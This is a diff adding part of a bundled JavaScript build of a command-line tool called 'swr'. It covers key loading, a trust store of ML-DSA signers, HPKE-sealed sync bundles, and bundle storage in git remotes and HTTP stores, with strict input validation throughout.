+    const key = parseHmacKey(text);
+    if (!key)
+        throw new SwrError(`${keys_keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, errors_EXIT.UNREPAIRABLE);
+    return { key, source: 'file' };
+}
+function loadIdentitySeed(stateDir) {
+    const text = readPrivate(keys_keyPath(stateDir, IDENTITY_FILE));
+    if (text === undefined)
+        return undefined;
+    if (!/^[0-9a-f]{64}\s*$/.test(text))
+        throw new SwrError(`${keys_keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, errors_EXIT.UNREPAIRABLE);
+    return Buffer.from(text.trim(), 'hex');
+}
+/** Create a new random key file; refuses to replace an existing one. */
+function createKeyFile(stateDir, name) {
+    ensurePrivateDir(stateDir, 'keys');
+    const bytes = (0,external_node_crypto_.randomBytes)(32);
+    try {
+        writeFileAtomic(keys_keyPath(stateDir, name), bytes.toString('hex') + '\n', {
+            mode: 0o600,
+            exclusive: true
+        });
+    }
+    catch (err) {
+        if (errnoCode(err) === 'EEXIST') {
+            throw new SwrError(`${keys_keyPath(stateDir, name)} already exists: keygen never replaces a key`, errors_EXIT.BAD_MANIFEST);
+        }
+        throw err;
+    }
+    return bytes;
+}
+/** The sync key's seed: SWR_SYNC_KEY (64 hex digits) wins over the key file. */
+function loadSyncSeed(stateDir, envValue) {
+    if (envValue !== undefined && envValue !== '') {
+        if (!/^[0-9a-fA-F]{64}$/.test(envValue.trim()))
+            throw new SwrError('SWR_SYNC_KEY must be 64 hex digits', errors_EXIT.BAD_MANIFEST);
+        return Buffer.from(envValue.trim(), 'hex');
+    }
+    const text = readPrivate(keys_keyPath(stateDir, SYNC_KEY_FILE));
+    if (text === undefined)
+        return undefined;
+    if (!/^[0-9a-f]{64}\s*$/.test(text))
+        throw new SwrError(`${keys_keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, errors_EXIT.UNREPAIRABLE);
+    return Buffer.from(text.trim(), 'hex');
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/trust.ts
+/**
+ * Which ML-DSA signers this machine trusts. Locally: a trust store in the private state directory
+ * (`trust.json`, 0600) plus this machine's own identity. In CI: fingerprints or public keys from an
+ * action input, never from files of the checked-out tree.
+ */
+
+
+
+
+
+
+function storePath(stateDir) {
+    return external_node_path_default().join(stateDir, 'trust.json');
+}
+function readTrustStore(stateDir) {
+    let text;
+    try {
+        text = external_node_fs_default().readFileSync(storePath(stateDir), 'utf8');
+    }
+    catch {
+        return [];
+    }
+    try {
+        const v = JSON.parse(text);
+        if (v.v !== 1 || !Array.isArray(v.signers))
+            throw new Error('shape');
+        return v.signers.filter(s => normalizeFingerprint(s.fingerprint) === s.fingerprint && typeof s.name === 'string');
+    }
+    catch {
+        throw new SwrError(`${storePath(stateDir)}: trust store is damaged; fix or remove it`, errors_EXIT.UNREPAIRABLE);
+    }
+}
+function writeTrustStore(stateDir, signers) {
+    ensurePrivateDir(stateDir);
+    writeFileAtomic(storePath(stateDir), JSON.stringify({ v: 1, signers }, null, 2) + '\n', {
+        mode: 0o600
+    });
+}
+function addTrusted(stateDir, fp, name, now) {
+    const norm = normalizeFingerprint(fp);
+    if (!norm)
+        throw new SwrError(`${fp}: not a fingerprint (64 hex digits, spaces allowed)`, errors_EXIT.BAD_MANIFEST);
+    const signers = readTrustStore(stateDir).filter(s => s.fingerprint !== norm);
+    const signer = { fingerprint: norm, name, added: now.toISOString() };
+    writeTrustStore(stateDir, [...signers, signer]);
+    return signer;
+}
+/** Remove by fingerprint or name; returns what was removed. */
+function removeTrusted(stateDir, what) {
+    const norm = normalizeFingerprint(what);
+    const signers = readTrustStore(stateDir);
+    const removed = signers.filter(s => s.fingerprint === norm || s.name === what);
+    if (removed.length === 0)
+        throw new SwrError(`no trusted signer matches ${what}`, errors_EXIT.BAD_MANIFEST);
+    writeTrustStore(stateDir, signers.filter(s => !removed.includes(s)));
+    return removed;
+}
+/**
+ * Trusted fingerprints from an input: one per line (or comma-separated), each a fingerprint or a
+ * base64 public key (whose fingerprint is computed); text after whitespace following a public key,
+ * or after "#", is a comment.
+ */
+function parseTrustedSigners(text) {
+    const out = new Set();
+    for (const raw of text.split(/[\n,]/)) {
+        const line = raw.replace(/#.*/, '').trim();
+        if (!line)
+            continue;
+        const fp = normalizeFingerprint(line);
+        if (fp) {
+            out.add(fp);
+            continue;
+        }
+        const token = line.split(/\s+/)[0] ?? '';
+        const key = /^[A-Za-z0-9+/]+={0,2}$/.test(token) ? Buffer.from(token, 'base64') : undefined;
+        if (key && key.length === PUBLIC_KEY_BYTES)
+            out.add(fingerprint(key));
+        else
+            throw new SwrError(`trusted signer "${line.slice(0, 40)}": not a fingerprint or ML-DSA-87 public key`, errors_EXIT.BAD_MANIFEST);
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/policy.ts
+/**
+ * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
+ * local trust store; the Action passes its inputs (trust never comes from the checked-out tree).
+ */
+
+
+
+
+
+
+
+function parseRequirement(v) {
+    if (!REQUIREMENTS.includes(v)) {
+        throw new UsageError(`require must be one of ${REQUIREMENTS.join(', ')} (got "${v}")`);
+    }
+    return v;
+}
+/** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
+function manifestPathInWorkspace(m) {
+    return isInside(m.workspace, m.file)
+        ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
+        : undefined;
+}
+function makePolicy(m, src) {
+    const trusted = new Set();
+    if (src.local)
+        for (const s of readTrustStore(src.stateDir))
+            trusted.add(s.fingerprint);
+    if (src.ownFingerprint)
+        trusted.add(src.ownFingerprint);
+    for (const t of src.trustedSigners)
+        for (const fp of parseTrustedSigners(t))
+            trusted.add(fp);
+    const hmac = src.local ? loadHmacKey(src.stateDir, src.hmacKeyText) : undefined;
+    return {
+        require: parseRequirement(src.require),
+        hmacKey: hmac?.key ?? (src.hmacKeyText ? loadHmacKey(src.stateDir, src.hmacKeyText)?.key : undefined),
+        trusted,
+        threshold: src.threshold,
+        minVersion: src.minVersion,
+        remembered: src.local ? recall(src.stateDir, m.file, m.body.scope) : undefined,
+        run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
+        now: src.now,
+        waiveDigest: src.waiveDigest
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/bundle.ts
+/**
+ * Off-box copies of the recipe book: the signed manifest with its tree indexes, packed into one
+ * bundle that `swr push` stores and `swr pull` brings back after a wipe.
+ *
+ * A bundle is sealed by default: a fresh 256-bit content key encrypts it with AES-256-GCM, and that
+ * key is sealed with HPKE (RFC 9180: the X-Wing hybrid post-quantum KEM, ML-KEM-768 + X25519,
+ * HKDF-SHA256, AES-256-GCM) once per recipient (this machine's sync key, named peers). A bundle in
+ * clear exists only when the user asked for it, and then never carries escrow (see redact.ts).
+ * Sealing is not trust: a pulled manifest is still verified (strict parse, schema, signatures
+ * through the gate) before anything writes or runs it.
+ */
+
+
+/** The first format: one recipient, the whole bundle sealed with HPKE (still read). */
+const SYNC_FORMAT_V1 = 'swr-sync/1';
+const SYNC_FORMAT = 'swr-sync/2';
+const SUITE_NAME = 'HPKE(X-Wing, HKDF-SHA256, AES-256-GCM)';
+const SUITE_V2 = `${SUITE_NAME} + AES-256-GCM`;
+const INFO_V1 = new TextEncoder().encode('swr manifest bundle v1');
+const INFO = new TextEncoder().encode('swr manifest bundle v2: content key');
+const MAX_BUNDLE_BYTES = 96 * 1024 * 1024;
+/** Recipients one bundle may be sealed to (each adds about 1.5 KiB). */
+const MAX_RECIPIENTS = 32;
+async function suite() {
+    const [{ CipherSuite, HkdfSha256, Aes256Gcm }, { XWing }] = await Promise.all([
+        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(573)]).then(__nccwpck_require__.bind(__nccwpck_require__, 9573)),
+        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(948)]).then(__nccwpck_require__.bind(__nccwpck_require__, 2948))
+    ]);
+    return new CipherSuite({ kem: new XWing(), kdf: new HkdfSha256(), aead: new Aes256Gcm() });
+}
+function ab(bytes) {
+    return new Uint8Array(bytes).buffer;
+}
+/** The X-Wing public key of a sync seed (what `swr peer mine` prints). */
+async function syncPublicKey(seed) {
+    const s = await suite();
+    const kp = await s.kem.deriveKeyPair(ab(seed));
+    return Buffer.from(await s.kem.serializePublicKey(kp.publicKey));
+}
+/** A short, non-secret name of a recipient's public key. */
+function recipientId(publicKey) {
+    return (0,external_node_crypto_.createHash)('sha256')
+        .update('swr-sync-recipient\0')
+        .update(publicKey)
+        .digest('hex')
+        .slice(0, 16);
+}
+/** Length of a serialized X-Wing public key. */
+const bundle_PUBLIC_KEY_BYTES = 1216;
+/** A public key as typed or pasted (base64, spaces and line breaks allowed), or undefined. */
+function parsePublicKey(text) {
+    const clean = text.replace(/\s+/g, '');
+    if (!/^[A-Za-z0-9+/]+={0,2}$/.test(clean))
+        return undefined;
+    const bytes = Buffer.from(clean, 'base64');
+    return bytes.length === bundle_PUBLIC_KEY_BYTES ? bytes : undefined;
+}
+/** Pack in clear (the caller decided it may: no escrow, tokens redacted). */
+function packPlain(bundle) {
+    return Buffer.from(JSON.stringify({ format: SYNC_FORMAT, sealed: false, bundle }));
+}
+/** Pack sealed to every public key in `recipients` (at least one). */
+async function packSealed(bundle, recipients) {
+    if (recipients.length === 0 || recipients.length > MAX_RECIPIENTS)
+        throw new SwrError(`a bundle is sealed to 1 to ${MAX_RECIPIENTS} recipients, not ${recipients.length}`, errors_EXIT.BAD_MANIFEST);
+    const s = await suite();
+    const contentKey = (0,external_node_crypto_.randomBytes)(32);
+    const iv = (0,external_node_crypto_.randomBytes)(12);
+    const cipher = (0,external_node_crypto_.createCipheriv)('aes-256-gcm', contentKey, iv);
+    cipher.setAAD(Buffer.from(SYNC_FORMAT));
+    const ct = Buffer.concat([
+        cipher.update(Buffer.from(JSON.stringify(bundle))),
+        cipher.final(),
+        cipher.getAuthTag()
+    ]);
+    const sealedFor = [];
+    for (const pub of recipients) {
+        const sender = await s.createSenderContext({
+            recipientPublicKey: await s.kem.deserializePublicKey(ab(pub)),
+            info: INFO
+        });
+        const key = await sender.seal(ab(contentKey), ab(iv));
+        sealedFor.push({
+            id: recipientId(pub),
+            enc: Buffer.from(sender.enc).toString('base64'),
+            key: Buffer.from(key).toString('base64')
+        });
+    }
+    contentKey.fill(0);
+    const env = {
+        format: SYNC_FORMAT,
+        sealed: true,
+        suite: SUITE_V2,
+        recipients: sealedFor,
+        iv: iv.toString('base64'),
+        ct: ct.toString('base64')
+    };
+    return Buffer.from(JSON.stringify(env));
+}
+function bundle_refuse(why) {
+    return new SwrError(`pulled bundle refused: ${why}`, errors_EXIT.UNREPAIRABLE);
+}
+function isBundle(v) {
+    const b = v;
+    return (typeof b === 'object' &&
+        b !== null &&
+        typeof b.manifest === 'string' &&
+        typeof b.trees === 'object' &&
+        b.trees !== null &&
+        Object.values(b.trees).every(x => typeof x === 'string') &&
+        (b.redacted === undefined ||
+            (Array.isArray(b.redacted) &&
+                b.redacted.length <= 1000 &&
+                b.redacted.every(x => typeof x === 'string' && /^[A-Z][A-Z0-9_]{0,63}$/.test(x)))));
+}
+function parseBundle(text) {
+    let bundle;
+    try {
+        bundle = JSON.parse(text);
+    }
+    catch {
+        throw bundle_refuse('malformed bundle');
+    }
+    if (!isBundle(bundle))
+        throw bundle_refuse('malformed bundle');
+    return bundle;
+}
+/** What an envelope says about itself before it is opened (for `swr sync status`). */
+function envelopeInfo(bytes) {
+    try {
+        const env = JSON.parse(bytes.toString('utf8'));
+        if (!env.sealed)
+            return { sealed: false, recipients: [] };
+        if (env.format === SYNC_FORMAT_V1)
+            return { sealed: true, recipients: [env.recipient] };
+        return { sealed: true, recipients: env.recipients.map(r => String(r.id)) };
+    }
+    catch {
+        return undefined;
+    }
+}
+/**
+ * Unpack (and open, with `seed`) a bundle; every malformed or unopenable input is a clean refusal.
+ * A bundle in clear is accepted only with `allowPlain` (sealed is the default on both ends).
+ */
+async function unpackBundle(bytes, seed, opts = {}) {
+    if (bytes.length > MAX_BUNDLE_BYTES)
+        throw bundle_refuse(`${bytes.length} bytes, over the ${MAX_BUNDLE_BYTES}-byte limit`);
+    let env;
+    try {
+        env = JSON.parse(bytes.toString('utf8'));
+    }
+    catch {
+        throw bundle_refuse('not a bundle');
+    }
+    const format = env?.format;
+    if (format !== SYNC_FORMAT && format !== SYNC_FORMAT_V1)
+        throw bundle_refuse(`unknown format ${JSON.stringify(format)?.slice(0, 40)}`);
+    if (!env.sealed) {
+        if (!isBundle(env.bundle))
+            throw bundle_refuse('malformed bundle');
+        if (opts.allowPlain === false)
+            throw bundle_refuse('it was stored in clear (pass --plaintext-ok to accept it)');
+        return { bundle: env.bundle, sealed: false };
+    }
+    if (!seed)
+        throw bundle_refuse('it is sealed and no sync key is available (SWR_SYNC_KEY, or "swr keygen" on the machine that pushed)');
+    const plain = env.format === SYNC_FORMAT_V1 ? await openV1(env, seed) : await openV2(env, seed);
+    return { bundle: parseBundle(plain), sealed: true };
+}
+function b64(v, what) {
+    if (typeof v !== 'string')
+        throw bundle_refuse(`malformed ${what}`);
+    return ab(Buffer.from(v, 'base64'));
+}
+async function openV1(env, seed) {
+    if (env.suite !== SUITE_NAME)
+        throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
+    if (env.recipient !== recipientId(await syncPublicKey(seed)))
+        throw bundle_refuse('it is sealed to another sync key');
+    try {
+        const s = await suite();
+        const kp = await s.kem.deriveKeyPair(ab(seed));
+        const recipient = await s.createRecipientContext({
+            recipientKey: kp.privateKey,
+            enc: b64(env.enc, 'enc'),
+            info: INFO_V1
+        });
+        return new TextDecoder().decode(await recipient.open(b64(env.ct, 'ciphertext')));
+    }
+    catch {
+        throw bundle_refuse('it does not open (altered in transit or storage)');
+    }
+}
+async function openV2(env, seed) {
+    if (env.suite !== SUITE_V2)
+        throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
+    if (!Array.isArray(env.recipients) || env.recipients.length > MAX_RECIPIENTS)
+        throw bundle_refuse('malformed recipient list');
+    const mine = recipientId(await syncPublicKey(seed));
+    const slot = env.recipients.find(r => r?.id === mine);
+    if (!slot)
+        throw bundle_refuse('it is sealed to another sync key');
+    const iv = Buffer.from(b64(env.iv, 'iv'));
+    const ct = Buffer.from(b64(env.ct, 'ciphertext'));
+    if (iv.length !== 12 || ct.length < 16)
+        throw bundle_refuse('it does not open (malformed ciphertext)');
+    try {
+        const s = await suite();
+        const kp = await s.kem.deriveKeyPair(ab(seed));
+        const recipient = await s.createRecipientContext({
+            recipientKey: kp.privateKey,
+            enc: b64(slot.enc, 'enc'),
+            info: INFO
+        });
+        const contentKey = Buffer.from(await recipient.open(b64(slot.key, 'sealed key'), ab(iv)));
+        const decipher = (0,external_node_crypto_.createDecipheriv)('aes-256-gcm', contentKey, iv);
+        decipher.setAAD(Buffer.from(SYNC_FORMAT));
+        decipher.setAuthTag(ct.subarray(ct.length - 16));
+        const plain = Buffer.concat([decipher.update(ct.subarray(0, ct.length - 16)), decipher.final()]);
+        contentKey.fill(0);
+        return plain.toString('utf8');
+    }
+    catch {
+        throw bundle_refuse('it does not open (altered in transit or storage)');
+    }
+}
+/** The cache key family for one manifest: the newest push wins on pull. */
+function syncKeyPrefix(scope) {
+    return `swr-manifest-v1-${(0,external_node_crypto_.createHash)('sha256').update(scope).digest('hex').slice(0, 16)}-`;
+}
+function sha256Hex(bytes) {
+    return (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/store.ts
+/**
+ * Where a pushed bundle lives. Every store does three things: `put` bytes and say where they went
+ * (a locator: one string that names the store and the copy), `get` the bytes back by locator, and
+ * `stat` a locator (reachable, and when it was stored when the store knows). The stores:
+ *
+ *   git:REMOTE              a remote name, URL or bare repository path; the bundle is a commit on
+ *                           refs/swr/NAME (git-store.ts)
+ *   http://… / https://…    a URL template taking PUT and serving GET (http-store.ts)
+ *   actions                 the GitHub Actions cache (adapters/actions-cache-store.ts)
+ *
+ * Locators and store spellings come from the user, a recovery code or a record on disk: they are
+ * parsed strictly here, and nothing in them reaches a shell.
+ */
+
+/** Names of copies (a git ref component, a URL path segment). */
+const NAME_RE = /^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/;
+function checkName(name) {
+    if (!NAME_RE.test(name) || name.includes('..') || name.endsWith('.lock'))
+        throw new UsageError(`bad copy name ${JSON.stringify(name.slice(0, 80))}: use 1-64 letters, digits, ".", "_" or "-"`);
+    return name;
+}
+/** A failure that may pass if tried again later (a 429 or 5xx, a reset connection). */
+class Transient extends Error {
+    retryAfterS;
+    constructor(message, 
+    /** Seconds the store asked to wait (Retry-After). */
+    retryAfterS) {
+        super(message);
+        this.retryAfterS = retryAfterS;
+        this.name = 'Transient';
+    }
+}
+function storeError(spelling, why) {
+    return new SwrError(`${spelling}: ${why}`, errors_EXIT.UNREPAIRABLE);
+}
+const store_sleep = (ms) => new Promise(r => setTimeout(r, ms));
+/**
+ * Run `op` until it succeeds, fails for good, or the deadline passes. A Transient failure is retried
+ * after its Retry-After, else after an exponential backoff (0.5 s, 1 s, 2 s, … at most 8 s); a wait
+ * that would end past the deadline is not started.
+ */
+async function withRetries(what, ctx, op) {
+    const end = Date.now() + ctx.deadlineMs;
+    for (let attempt = 0;; attempt++) {
+        try {
+            return await op();
+        }
+        catch (err) {
+            if (!(err instanceof Transient))
+                throw err;
+            const backoff = Math.min(8000, 500 * 2 ** attempt);
+            const waitMs = err.retryAfterS !== undefined ? err.retryAfterS * 1000 : backoff;
+            if (Date.now() + waitMs >= end)
+                throw new SwrError(`${what}: ${err.message}; gave up after ${attempt + 1} attempt${attempt ? 's' : ''} (the ${Math.round(ctx.deadlineMs / 1000)} s limit)`, errors_EXIT.UNREPAIRABLE);
+            ctx.note?.(`${what}: ${err.message}; trying again in ${(waitMs / 1000).toFixed(1)} s`);
+            await store_sleep(waitMs);
+        }
+    }
+}
+/** The kind of store a spelling or locator names. */
+function storeKind(spec) {
+    if (spec.startsWith('git:'))
+        return 'git';
+    if (/^https?:\/\//i.test(spec))
+        return 'http';
+    if (spec === 'actions' || spec.startsWith('actions:'))
+        return 'actions';
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/git-store.ts
+/**
+ * A git remote as a store: the bundle becomes the only file (`bundle.json`) of a parentless commit,
+ * pushed to `refs/swr/NAME` of the remote (a remote name of the current repository, a URL, or a
+ * bare repository's path). The machine's own `git` does the work from a private, temporary bare
+ * repository, so no working tree, index or branch of any repository is touched. Each push replaces
+ * the ref (the remote keeps the newest bundle only).
+ *
+ * Locator: `git:REMOTE#NAME`, REMOTE resolved (a remote name becomes its URL, a path becomes
+ * absolute) and without any password it held. Only the file, git, http(s) and ssh transports are
+ * allowed (never `ext::`), git never prompts, and a remote spelled with a leading "-" is refused.
+ */
+
+
+
+
+
+
+const FILE = 'bundle.json';
+/** `git ARGS` without a shell; resolves to stdout, rejects with git's last stderr line. */
+function git(ctx, args, opts = {}) {
+    const maxOut = opts.maxOut ?? 1 << 20;
+    const env = {
+        ...ctx.env,
+        GIT_TERMINAL_PROMPT: '0',
+        GIT_ALLOW_PROTOCOL: 'file:git:http:https:ssh',
+        GIT_AUTHOR_NAME: 'swr',
+        GIT_AUTHOR_EMAIL: 'swr@localhost',
+        GIT_COMMITTER_NAME: 'swr',
+        GIT_COMMITTER_EMAIL: 'swr@localhost',
+        GIT_SSH_COMMAND: ctx.env.GIT_SSH_COMMAND ?? 'ssh -o BatchMode=yes',
+        LC_ALL: 'C'
+    };
+    for (const k of ['GIT_DIR', 'GIT_WORK_TREE', 'GIT_INDEX_FILE', 'GIT_OBJECT_DIRECTORY'])
+        delete env[k];
+    return new Promise((resolve, reject) => {
+        // No hook of any template or configuration runs in the scratch repository.
+        const child = (0,external_node_child_process_.spawn)('git', ['-c', 'core.hooksPath=/dev/null', ...args], {
+            cwd: opts.cwd ?? ctx.cwd,
+            env,
+            stdio: ['pipe', 'pipe', 'pipe']
+        });
+        const out = [];
+        let outBytes = 0;
+        let err = '';
+        let failed;
+        const timer = setTimeout(() => {
+            failed = new Error(`git ${args[0]} took longer than ${Math.round(ctx.deadlineMs / 1000)} s`);
+            child.kill('SIGKILL');
+        }, ctx.deadlineMs);
+        child.stdout.on('data', (c) => {
+            outBytes += c.length;
+            if (outBytes > maxOut) {
+                failed = new Error(`git ${args[0]} printed more than ${maxOut} bytes`);
+                child.kill('SIGKILL');
+            }
+            else
+                out.push(c);
+        });
+        child.stderr.on('data', (c) => {
+            err = (err + c.toString('utf8')).slice(-4000);
+        });
+        child.on('error', e => reject(new Error(e.code === 'ENOENT' ? 'git is not installed' : e.message)));
+        child.on('close', code => {
+            clearTimeout(timer);
+            if (failed)
+                return reject(failed);
+            if (code !== 0) {
+                const line = err.trim().split('\n').filter(Boolean).pop() ?? `exit ${code}`;
+                return reject(new Error(line.replace(/\p{Cc}/gu, ' ').slice(0, 300)));
+            }
+            resolve(Buffer.concat(out));
+        });
+        child.stdin.on('error', () => undefined);
+        child.stdin.end(opts.input ?? '');
+    });
+}
+const URL_RE = /^([a-z][a-z0-9+.-]*):\/\//i;
+const ALLOWED = new Set(['file', 'git', 'http', 'https', 'ssh']);
+function withoutPassword(url) {
+    const m = URL_RE.exec(url);
+    if (!m)
+        return url;
+    try {
+        const u = new URL(url);
+        if (!u.password)
+            return url;
+        u.password = '';
+        return u.toString();
+    }
+    catch {
+        return url;
+    }
+}
+async function resolveRemote(remote, ctx) {
+    if (remote === '' || remote.startsWith('-') || /\p{Cc}/u.test(remote) || remote.length > 2000)
+        throw new UsageError(`bad git remote ${JSON.stringify(remote.slice(0, 80))}`);
+    const scheme = URL_RE.exec(remote)?.[1]?.toLowerCase();
+    if (scheme) {
+        if (!ALLOWED.has(scheme))
+            throw new UsageError(`git remote: the ${scheme} transport is not allowed`);
+        return { url: remote, shown: withoutPassword(remote) };
+    }
+    if (remote.includes('::'))
+        throw new UsageError('git remote: transport helpers are not allowed');
+    // scp-like user@host:path (a colon before any slash) is ssh.
+    if (/^[^/]*:/.test(remote))
+        return { url: remote, shown: remote };
+    const local = external_node_path_default().resolve(ctx.cwd, remote);
+    if (remote.includes('/') || external_node_fs_default().existsSync(local))
+        return { url: local, shown: local };
+    // A remote name of the repository around the working directory.
+    let url;
+    try {
+        url = (await git(ctx, ['remote', 'get-url', '--', remote])).toString('utf8').trim();
+    }
+    catch {
+        throw new UsageError(`git remote "${remote}": no such remote here and no such path`);
+    }
+    if (url === remote)
+        throw new UsageError(`git remote "${remote}" resolves to itself`);
+    return resolveRemote(url, ctx);
+}
+/** `git:REMOTE#NAME` → its parts. */
+function parseGitLocator(locator) {
+    const body = locator.slice('git:'.length);
+    const at = body.lastIndexOf('#');
+    if (!locator.startsWith('git:') || at <= 0)
+        throw new UsageError(`bad git locator ${JSON.stringify(locator.slice(0, 120))}`);
+    return { remote: body.slice(0, at), name: checkName(body.slice(at + 1)) };
+}
+async function withScratchRepo(ctx, fn) {
+    const dir = external_node_fs_default().mkdtempSync(external_node_path_default().join(ctx.tmpDir, 'swr-git-'));
+    try {
+        await git(ctx, ['init', '--bare', '--quiet', dir]);
+        return await fn(dir);
+    }
+    finally {
+        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
+    }
+}
+function gitStore(spelling, ctx) {
+    const remoteSpec = spelling.slice('git:'.length);
+    const fail = (why) => storeError(spelling, why);
+    return {
+        spelling,
+        async put(bytes, meta) {
+            const name = checkName(meta.name);
+            const remote = await resolveRemote(remoteSpec, ctx);
+            return withScratchRepo(ctx, async (dir) => {
+                const g = (args, input) => git(ctx, ['--git-dir', dir, ...args], { input });
+                try {
+                    const blob = (await g(['hash-object', '-w', '--stdin'], bytes)).toString().trim();
+                    const tree = (await g(['mktree'], `100644 blob ${blob}\t${FILE}\n`)).toString().trim();
+                    const commit = (await g(['commit-tree', tree, '-m', `swr bundle ${name}\n\nsha256 ${meta.sha256}\n`]))
+                        .toString()
+                        .trim();
+                    await g(['push', '--quiet', '--no-verify', remote.url, `+${commit}:refs/swr/${name}`]);
+                }
+                catch (err) {
+                    throw fail(`push failed: ${err.message}`);
+                }
+                return `git:${remote.shown}#${name}`;
+            });
+        },
+        locate: name => `git:${remoteSpec}#${checkName(name)}`,
+        async get(locator) {
+            const { remote: r, name } = parseGitLocator(locator);
+            const remote = await resolveRemote(r, ctx);
+            return withScratchRepo(ctx, async (dir) => {
+                const g = (args, maxOut) => git(ctx, ['--git-dir', dir, ...args], { maxOut });
+                try {
+                    await g(['fetch', '--quiet', '--no-tags', remote.url, `+refs/swr/${name}:refs/swr/got`]);
+                }
+                catch (err) {
+                    const msg = err.message;
+                    throw fail(/couldn't find remote ref/i.test(msg) ? `no copy named ${name}` : `fetch failed: ${msg}`);
+                }
+                let size;
+                try {
+                    size = Number((await g(['cat-file', '-s', `refs/swr/got:${FILE}`])).toString().trim());
+                }
+                catch {
+                    throw fail(`refs/swr/${name} holds no ${FILE}`);
+                }
+                if (!(size <= MAX_BUNDLE_BYTES))
+                    throw fail(`${size} bytes, over the ${MAX_BUNDLE_BYTES}-byte limit`);
+                const bytes = await g(['cat-file', 'blob', `refs/swr/got:${FILE}`], MAX_BUNDLE_BYTES);
+                const ct = Number((await g(['show', '-s', '--format=%ct', 'refs/swr/got'])).toString());
+                return { bytes, storedAt: Number.isFinite(ct) && ct > 0 ? new Date(ct * 1000) : undefined };
+            });
+        },
+        async stat(locator) {
+            const { remote: r, name } = parseGitLocator(locator);
+            try {
+                const remote = await resolveRemote(r, ctx);
+                const out = await git(ctx, ['ls-remote', remote.url, `refs/swr/${name}`]);
+                return out.length > 0
+                    ? { reachable: true }
+                    : { reachable: false, detail: `no copy named ${name}` };
+            }
+            catch (err) {
+                return { reachable: false, detail: err.message };
+            }
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/http-store.ts
+/**
+ * An HTTP(S) URL template as a store: `push` PUTs the bundle to the template filled in, `pull`
+ * GETs it back. Placeholders: `{name}` (the copy's name) and `{sha256}` (the hex SHA-256 of the
+ * stored bytes, for content-addressed stores); a template without them is one fixed URL. The
+ * locator is the filled-in URL.
+ *
+ * Credentials never sit in the URL (a URL with a user or password is refused, since the locator
+ * ends up in the recovery code): the Authorization header's value is read from the environment
+ * variable named by `--auth-env VAR`, at each run. Redirects are not followed. Every request has a
+ * time limit and every body a size limit; 429 and 5xx answers, cut-short bodies and timeouts are
+ * retried (store.ts) until the operation's deadline.
+ */
+
+
+
+const PLACEHOLDER = /\{([^}]*)\}/g;
+const KNOWN = new Set(['name', 'sha256']);
+function checkUrl(url, what) {
+    let u;
+    try {
+        u = new URL(url);
+    }
+    catch {
+        throw new UsageError(`${what}: not a URL: ${JSON.stringify(url.slice(0, 120))}`);
+    }
+    if (u.protocol !== 'http:' && u.protocol !== 'https:')
+        throw new UsageError(`${what}: only http and https URLs are stores`);
+    if (u.username || u.password)
+        throw new UsageError(`${what}: a URL must not hold credentials (they would end up in the recovery code); use --auth-env VAR`);
+    return u;
+}
+/** The template with its placeholders filled in. */
+function fillTemplate(template, values) {
+    const url = template.replace(PLACEHOLDER, (_, key) => {
+        if (!KNOWN.has(key))
+            throw new UsageError(`${template.slice(0, 120)}: unknown placeholder {${key}} (use {name} or {sha256})`);
+        return key === 'name' ? checkName(values.name) : values.sha256;
+    });
+    checkUrl(url, template.slice(0, 120));
+    return url;
+}
+/** Retry-After in seconds (delta-seconds or an HTTP date), or undefined. */
+function retryAfterSeconds(value, now = Date.now()) {
+    if (!value)
+        return undefined;
+    if (/^\d{1,7}$/.test(value.trim()))
+        return Number(value.trim());
+    const t = Date.parse(value);
+    return Number.isFinite(t) ? Math.max(0, (t - now) / 1000) : undefined;
+}
+function headers(ctx) {
+    const h = { 'user-agent': 'swr-sync' };
+    if (ctx.authEnv) {
+        const v = ctx.env[ctx.authEnv];
+        if (v === undefined || v === '')
+            throw new UsageError(`--auth-env ${ctx.authEnv}: the variable is not set`);
+        if (/[\r\n]/.test(v))
+            throw new UsageError(`--auth-env ${ctx.authEnv}: the value holds a line break`);
+        h.authorization = v;
+    }
+    return h;
+}
+function transientStatus(status) {
+    return status === 429 || status === 408 || status >= 500;
+}
+const TRANSIENT_CODES = new Set([
+    'ECONNRESET',
+    'EPIPE',
+    'ETIMEDOUT',
+    'UND_ERR_SOCKET',
+    'UND_ERR_CONNECT_TIMEOUT',
+    'UND_ERR_HEADERS_TIMEOUT',
+    'UND_ERR_BODY_TIMEOUT'
+]);
+/** A fetch error: a timeout or a reset may pass; a refused connection or a bad URL will not. */
+function classify(err) {
+    const e = err;
+    const code = e.cause?.code;
+    if (e.name === 'TimeoutError' || e.name === 'AbortError')
+        return new Transient('no answer within the request time limit');
+    const msg = String(e.cause?.message ?? e.message).slice(0, 120);
+    if (code && TRANSIENT_CODES.has(code))
+        return new Transient(`the connection failed: ${msg}`);
+    return new Error(`cannot connect (${code ?? msg})`);
+}
+/** The body, at most `max` bytes, and exactly Content-Length bytes when the server sent one. */
+async function readBody(res, max) {
+    const declared = res.headers.get('content-length');
+    if (declared !== null && Number(declared) > max)
+        throw new Error(`${declared} bytes, over the ${max}-byte limit`);
+    const chunks = [];
+    let total = 0;
+    if (res.body) {
+        for await (const chunk of res.body) {
+            total += chunk.length;
+            if (total > max)
+                throw new Error(`more than the ${max}-byte limit`);
+            chunks.push(Buffer.from(chunk));
+        }
+    }
+    if (declared !== null && Number(declared) !== total)
+        throw new Transient(`the body was cut short (${total} of ${declared} bytes)`);
+    return Buffer.concat(chunks);
+}
+function httpStore(template, ctx) {
